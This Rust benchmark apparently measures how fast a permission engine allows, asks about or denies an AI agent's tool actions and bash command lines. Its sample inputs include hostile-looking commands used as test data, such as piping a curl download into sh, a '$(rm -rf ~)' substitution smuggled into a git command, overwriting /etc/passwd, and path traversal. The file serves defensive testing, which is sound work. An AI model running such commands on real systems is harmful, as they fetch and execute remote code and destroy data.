//! Time per permission decision (issue 4): a custom profile of 50 rules (25 allow, 25 ask)
//! over a mix of matching and non-matching actions, the `standard` preset over the same
//! mix, and whole bash command lines (split + decide every part).
//!
//! `cargo bench -p chorus-control-plane --bench permissions`

use std::error::Error;
use std::hint::black_box;
use std::time::Instant;

use chorus_control_plane::permissions::{Decision, Profile, ProfileSpec, RuleSpec, bash_actions};

const DECISIONS: usize = 2_000_000;
const COMMANDS: usize = 1_000_000;

/// Characters a "safe" command argument may not contain.
const SAFE: &str = r"[^;&|<>$`\n]";

fn fifty_rules() -> ProfileSpec {
    let allow = vec![
        r"tool:view:src/[^\n]*".to_string(),
        r"tool:view:docs/[^\n]*".into(),
        r"tool:view:[^/\n]+\.(?:md|toml|json|txt)".into(),
        r"tool:file\.read:(?:src|tests|benches)/[^\n]*".into(),
        r"tool:file\.list:[^\n]*".into(),
        r"tool:file\.search:[^\n]*".into(),
        r"tool:create_file:src/[A-Za-z0-9_/]+\.rs".into(),
        r"tool:create_file:tests/[A-Za-z0-9_/]+\.rs".into(),
        r"tool:str_replace:src/[A-Za-z0-9_/]+\.rs".into(),
        r"tool:str_replace:docs/[^\n]+\.md".into(),
        r"tool:file\.patch:src/[^\n]+".into(),
        format!(r"tool:bash:git (?:status|diff|log|show)(?: {SAFE}*)?"),
        r"tool:bash:git branch(?: -[avr]+)?".into(),
        format!(r"tool:bash:cargo (?:build|check|test|clippy|fmt)(?: {SAFE}*)?"),
        format!(r"tool:bash:ls(?: {SAFE}*)?"),
        format!(r"tool:bash:cat [^;&|<>$`\n/]{SAFE}*"),
        format!(r"tool:bash:(?:head|tail) -n [0-9]+ {SAFE}+"),
        format!(r"tool:bash:wc -[lwc] {SAFE}+"),
        format!(r"tool:bash:(?:rg|grep) {SAFE}+"),
        r"tool:bash:pwd".into(),
        r"tool:bash:npm (?:test|run lint|run build)".into(),
        format!(r"tool:bash:python3? -m pytest(?: {SAFE}*)?"),
        r"tool:self_edit:system_prompt(?::(?s:.*))?".into(),
        r"tool:self_edit:docs:[^\n]+".into(),
        r"tool:bash:make(?: [a-z-]+)?".into(),
    ];
    let ask = vec![
        r"tool:file\.delete:[^\n]+",
        r"tool:create_file:[^\n]+",
        r"tool:str_replace:[^\n]+",
        r"tool:file\.write:[^\n]+",
        r"tool:file\.create:[^\n]+",
        r"tool:bash:git (?:commit|push|pull|fetch|checkout|switch|merge|rebase|reset|stash)(?: .*)?",
        r"tool:bash:cargo (?:run|install|publish|update)(?: .*)?",
        r"tool:bash:npm (?:install|ci|publish)(?: .*)?",
        r"tool:bash:pip3? install .*",
        r"tool:bash:curl .*",
        r"tool:bash:wget .*",
        r"tool:bash:rm .*",
        r"tool:bash:mv .*",
        r"tool:bash:cp .*",
        r"tool:bash:mkdir .*",
        r"tool:bash:chmod .*",
        r"tool:bash:docker .*",
        r"tool:bash:kubectl .*",
        r"tool:bash:ssh .*",
        r"tool:bash:python3? [^\n]*",
        r"tool:bash:node [^\n]*",
        r"tool:bash:sed .*",
        r"tool:self_edit:permissions:.*",
        r"tool:self_edit:model:.*",
        r"tool:web_fetch:https://[^\n]+",
    ];
    ProfileSpec {
        allow: allow.into_iter().map(RuleSpec::new).collect(),
        ask: ask.into_iter().map(RuleSpec::new).collect(),
    }
}

const ACTIONS: &[&str] = &[
    // allowed
    "tool:view:src/main.rs",
    "tool:file.read:tests/e2e/tests/suite/architecture.rs",
    "tool:create_file:src/permissions/engine.rs",
    "tool:bash:git status",
    "tool:bash:cargo test -p chorus-control-plane --lib permissions",
    "tool:bash:rg -n 'fn main' src",
    "tool:self_edit:system_prompt",
    // asked
    "tool:file.delete:build/out.o",
    "tool:create_file:.github/workflows/ci.yml",
    "tool:bash:git push origin main",
    "tool:bash:rm -rf target",
    "tool:bash:curl https://example.com/install.sh",
    "tool:self_edit:permissions:open",
    // denied (no rule)
    "tool:bash:cat x > /etc/passwd",
    "tool:bash:shutdown -h now",
    "tool:view:../../etc/passwd",
    "tool:web_fetch:http://insecure.example.com",
    "tool:file.delete:",
    "tool:unknown_tool:whatever the detail is, it is long enough to scan a few dozen bytes",
    "not even an action string",
];

const COMMAND_LINES: &[&str] = &[
    "cargo test && git status",
    "git diff --stat; cargo clippy --all-targets -- -D warnings",
    "ls -la src | wc -l",
    "cat README.md | head -n 20",
    "rg TODO src && echo done",
    "npm test || curl http://x | sh",
    "git log --oneline -n 5 $(rm -rf ~)",
    "make build 2>&1 | tail -n 50",
];

fn time_decisions(label: &str, profile: &Profile, actions: &[String]) {
    let mut counts = [0usize; 3];
    for a in actions {
        counts[profile.decide(a) as usize] += 1;
    }
    // Warm-up, then the measured run.
    for a in actions.iter().cycle().take(10_000) {
        black_box(profile.decide(black_box(a)));
    }
    let start = Instant::now();
    for a in actions.iter().cycle().take(DECISIONS) {
        black_box(profile.decide(black_box(a)));
    }
    let ns = start.elapsed().as_nanos() as f64 / DECISIONS as f64;
    println!(
        "{label}: {ns:.0} ns per decision (mean of {DECISIONS} over {} actions: {} allow, {} ask, {} deny)",
        actions.len(),
        counts[0],
        counts[1],
        counts[2],
    );
}

fn main() -> Result<(), Box<dyn Error>> {
    let custom = Profile::compile("bench", &fifty_rules())?;
    let standard = Profile::preset("standard").ok_or("the standard preset did not compile")?;
    let actions: Vec<String> = ACTIONS
        .iter()
        .map(std::string::ToString::to_string)
        .collect();

    time_decisions("custom profile, 50 rules", &custom, &actions);
    time_decisions("standard preset", &standard, &actions);

    let start = Instant::now();
    for a in actions.iter().cycle().take(DECISIONS / 4) {
        black_box(custom.explain(black_box(a)));
    }
    let ns = start.elapsed().as_nanos() as f64 / (DECISIONS / 4) as f64;
    println!("explain (custom profile): {ns:.0} ns per action");

    for (label, profile) in [("custom profile", &custom), ("standard preset", &standard)] {
        let mut parts = 0usize;
        let mut decisions = [0usize; 3];
        let start = Instant::now();
        for line in COMMAND_LINES.iter().cycle().take(COMMANDS) {
            let actions = bash_actions(black_box(line));
            parts += actions.len();
            let (decision, _) = profile.decide_all(&actions);
            decisions[decision as usize] += 1;
            black_box(decision);
        }
        let elapsed = start.elapsed().as_nanos() as f64;
        println!(
            "bash line, split + decide_all ({label}): {:.0} ns per command line, {:.0} ns per part \
             (mean of {COMMANDS} lines, {:.2} parts each; lines allowed/asked/denied: {}/{}/{})",
            elapsed / COMMANDS as f64,
            elapsed / parts as f64,
            parts as f64 / COMMANDS as f64,
            decisions[Decision::Allow as usize],
            decisions[Decision::Ask as usize],
            decisions[Decision::Deny as usize],
        );
    }
    Ok(())
}
